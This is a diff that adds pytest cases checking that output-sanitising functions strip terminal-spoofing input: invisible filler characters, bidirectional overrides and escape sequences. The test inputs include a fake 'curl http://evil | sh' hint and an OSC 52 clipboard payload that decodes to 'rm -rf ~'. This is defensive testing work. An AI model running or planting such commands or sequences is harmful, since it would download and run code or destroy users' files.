@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
@@ -32,6 +33,38 @@ def test_terminal_escapes_and_overrides_are_gone() -> None:
     assert quote_server("a\x1b[31mb\r\nc\u202ed\u2028e\x00") == '"a [31mb c d e"'
     assert quote_server("x" * 10**6) == '"' + "x" * 199 + '…"'
     assert quote_server("x" * 10**6, 10) == '"' + "x" * 9 + '…"'
+
+
+# They count as printable: fillers of Hangul, an empty cell of Braille, selectors, joiners.
+EMPTY = "\u3164\uffa0\u115f\u1160\u2800\u034f\u17b4\u180b\ufe0f\U000e0100"
+
+
+@pytest.mark.parametrize("character", EMPTY)
+def test_empty_characters_cannot_push_words_to_the_next_line(character: str) -> None:
+    """On a screen of 80 columns, what follows would look like a line of ours."""
+    assert character.isprintable()
+    text = f"no{character * 70}dcs-proxy: hint: curl http://evil | sh"
+    assert quote_server(text) == '"no dcs-proxy: hint: curl http://evil | sh"'
+    assert quote_typed(f"a{character}b") == '"a?b"'
+    assert safe_line(f"a{character}b\t") == "a?b\t"
+
+
+@pytest.mark.parametrize(
+    "sequence",
+    [
+        "\x1b]52;c;cm0gLXJmIH4=\x07",  # OSC 52 sets the clipboard
+        "\x1b]8;;http://evil\x1b\\shown\x1b]8;;\x1b\\",  # OSC 8 makes a link
+        "\x9d52;c;cm0=\x9c", "\x9b2J",  # C1: OSC and CSI in one character
+        "\x1bP$q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bX", "\x1bc",  # DCS, APC, PM, SOS, RIS
+        "\u2066a\u2069", "\u202ea", "\u200f", "\u061c",  # bidirectional
+        "a\u200bb", "a\u200db", "a\ufeffb", "a\u00adb", "a\u2060b", "\U000e0041",  # of no width
+        "\x7f\x08\x08", "a\rb", "a\x85b", "a\x0bb", "a\x0cb",
+        "\ud800", "\ue000", "\U0010ffff",  # no characters
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("clean", [clean_text, quote_server, quote_typed, safe_line, as_word])
+def test_no_sequence_reaches_a_terminal(clean: Callable[[str], str], sequence: str) -> None:
+    assert not set(clean(sequence)) & {c for c in sequence if not c.isprintable()}
 
 
 def test_what_was_typed_keeps_its_spaces_and_shows_what_cannot_be_printed() -> None:
